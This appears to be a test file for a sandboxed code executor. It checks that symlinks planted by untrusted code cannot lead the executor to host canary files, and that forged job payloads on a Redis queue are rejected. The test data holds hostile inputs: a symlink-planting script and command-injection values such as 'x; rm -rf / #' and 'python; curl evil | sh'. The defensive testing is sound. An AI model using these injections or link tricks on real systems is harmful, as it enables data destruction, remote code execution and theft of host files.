/**
 * Attacks on the executor itself rather than on the sandbox: links planted where the executor
 * looks after untrusted code ran (Judge0's two escapes), and forged payloads put straight on a
 * queue by someone with Redis access.
 */
import test from 'ava';
import { randomUUID } from 'node:crypto';
import { chmod, mkdir, mkdtemp, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { payload } from '../helpers.js';
import { useHostile } from './harness.js';

const hostile = useHostile(61_120, 'sentinel-hostile-planted');

interface Snapshot {
  content: string;
  mode: number;
  uid: number;
  gid: number;
  mtimeMs: number;
}

async function snapshot(file: string): Promise<Snapshot> {
  const info = await stat(file);
  return { content: await readFile(file, 'utf8'), mode: info.mode, uid: info.uid, gid: info.gid, mtimeMs: info.mtimeMs };
}

test.serial('links planted at the source, the binary, the output and folders never lead the executor to host files', async (t) => {
  const canaries = await mkdtemp(path.join(os.tmpdir(), 'sentinel-canary-'));
  t.teardown(() => rm(canaries, { recursive: true, force: true }));
  await chmod(canaries, 0o755);
  await writeFile(path.join(canaries, 'secret'), `secret ${randomUUID()}\n`, { mode: 0o600 });
  await mkdir(path.join(canaries, 'folder'), { mode: 0o755 });
  await writeFile(path.join(canaries, 'folder', 'kept'), 'kept\n', { mode: 0o644 });
  const before = { secret: await snapshot(path.join(canaries, 'secret')), kept: await snapshot(path.join(canaries, 'folder', 'kept')) };

  // The compile step runs the submitted script with the host job directory as its /box.
  const secret = path.join(canaries, 'secret');
  const script = [
    'set -e',
    `rm -f build.sh && ln -s ${secret} build.sh`, // the source the executor wrote
    `ln -s ${secret} main`, // where a binary would be
    `ln -s ${secret} out`, // what the run step reads
    `ln -s ${secret} result.json`,
    `ln -s ${canaries}/folder folder`, // a folder the executor might descend into when removing
    `mkdir nested && ln -s ${secret} nested/link && ln -s ${canaries} nested/up`,
    'echo planted',
  ].join('\n');
  // The run step must get a /box without the links: the executor binds only real files and folders.
  const expected = 'cat: ./out: No such file or directory\nno-out';
  const result = await hostile().run('build-test', script, { testCases: [{ input: '', expected }] });
  t.is(result.verdict, 'ACCEPTED', JSON.stringify(result).slice(0, 400));

  t.deepEqual(await snapshot(path.join(canaries, 'secret')), before.secret);
  t.deepEqual(await snapshot(path.join(canaries, 'folder', 'kept')), before.kept);
  t.deepEqual((await readdir(canaries)).sort(), ['folder', 'secret']);
});

test.serial('forged payloads put straight on the queue are rejected, never run and never retried', async (t) => {
  const valid = payload({ language: 'python', code: 'print(1)' });
  const forgeries: Array<[string, unknown, RegExp]> = [
    ['shell in the id', { ...valid, id: 'x; rm -rf / #' }, /id/],
    ['shell in the language', { ...valid, language: 'python; curl evil | sh' }, /language/],
    ['a limit of 0', { ...valid, limits: { cpuMs: 0 } }, /limits\.cpuMs/],
    ['a negative limit', { ...valid, limits: { memoryMb: -1 } }, /limits\.memoryMb/],
    ['a limit above the maximum', { ...valid, limits: { wallMs: 10 ** 9 } }, /limits\.wallMs/],
    ['an unknown field', { ...valid, command: ['/bin/sh', '-c', 'id'] }, /command/],
    ['test cases of the wrong type', { ...valid, testCases: '`id`' }, /testCases/],
    ['absurdly long code', { ...valid, code: 'x'.repeat(10 * 1024 * 1024) }, /code/],
    ['no payload at all', null, /payload|value/],
  ];
  const runsBefore = hostile().recording.runs.length;
  for (const [label, data, reason] of forgeries) {
    const ended = await hostile().forge('python', data);
    t.is(ended.state, 'failed', label);
    t.regex(ended.failedReason ?? '', reason, label);
    t.regex(ended.failedReason ?? '', /invalid job payload/, label);
  }
  t.is(hostile().recording.runs.length, runsBefore, 'nothing forged reached the sandbox');
});
